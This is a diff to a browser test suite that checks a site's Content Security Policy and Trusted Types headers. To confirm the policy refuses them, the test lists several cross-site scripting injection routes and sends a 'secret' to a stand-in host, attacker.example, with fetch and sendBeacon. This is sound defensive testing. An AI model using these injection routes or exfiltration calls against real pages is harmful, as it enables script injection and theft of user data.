@@ -165,13 +165,39 @@ describe("what was smuggled into a page", () => {
       await page.goto(serverUrl + path);
       // Scripts of the page itself can still be injected into, after it was loaded.
       await page.evaluate((mark) => {
-        const later = document.createElement("div");
-        later.innerHTML = `<img src="/none" onerror="${mark}"><a href="javascript:${mark}">x</a>`;
-        document.body.append(later);
-        later.querySelector("a")?.click();
+        const image = document.createElement("img");
+        const link = document.createElement("a");
         const script = document.createElement("script");
-        script.textContent = mark;
-        document.body.append(script);
+        link.href = `javascript:${mark}`;
+        document.body.append(image, link, script);
+        const ways = [
+          () => image.setAttribute("onerror", mark),
+          () => link.click(),
+          () => script.append(mark),
+          () => {
+            script.textContent = mark;
+          },
+          () => {
+            script.src = `data:text/javascript,${mark}`;
+          },
+          () => {
+            document.body.append(document.createElement("div"));
+            document.body.lastElementChild?.insertAdjacentHTML(
+              "afterbegin",
+              `<img src="/none" onerror="${mark}">`,
+            );
+          },
+          () => setTimeout(mark),
+          () => new Worker(`data:text/javascript,${mark}`),
+        ];
+        for (const way of ways) {
+          try {
+            way();
+          } catch {
+            // Refused at once.
+          }
+        }
+        image.src = "/none";
         void fetch("https://attacker.example/?secret").catch(() => {});
         navigator.sendBeacon("https://attacker.example/", "secret");
       }, MARK);
@@ -181,6 +207,7 @@ describe("what was smuggled into a page", () => {
         .toBeGreaterThan(9);
       const refused = (await violations(page)).map((each) => each.split(" ")[0]);
       const kinds = ["script-src-elem", "script-src-attr", "base-uri", "object-src", "connect-src"];
+      if (path !== "/api") kinds.push("require-trusted-types-for");
       expect(refused, path).toEqual(expect.arrayContaining(kinds));
       expect(await page.evaluate(() => "attacked" in globalThis), path).toBe(false);
       expect(
@@ -224,7 +251,7 @@ describe("a page of another site", () => {
 });
 
 describe("headers", () => {
-  test("pages and scripts have the policy, each of them the same but for who may frame it", async () => {
+  test("pages and scripts have one policy, but for who may frame it and what swagger-ui needs", async () => {
     const policies = new Map<string, string | null>();
     for (const path of [...paths(), "/watch", "/contribute", "/api-reference", "/favicon.svg"]) {
       const { headers } = await fetch(serverUrl + path.split("#")[0]);
@@ -240,10 +267,13 @@ describe("headers", () => {
     const policy = policies.get("/") ?? "";
     expect(policy).toContain("frame-ancestors 'none'");
     expect(policy).not.toMatch(/unsafe-inline|'unsafe-eval'|\*|http/);
+    const trustedTypes = "; require-trusted-types-for 'script'; trusted-types default";
+    expect(policy).toContain(trustedTypes);
     for (const [path, each] of policies) {
       const mayBeFramed = path === embed;
+      const own = path.startsWith("/api") ? policy.replace(trustedTypes, "") : policy;
       expect(each, path).toBe(
-        mayBeFramed ? policy.replace("frame-ancestors 'none'", "frame-ancestors *") : policy,
+        mayBeFramed ? own.replace("frame-ancestors 'none'", "frame-ancestors *") : own,
       );
     }
   });
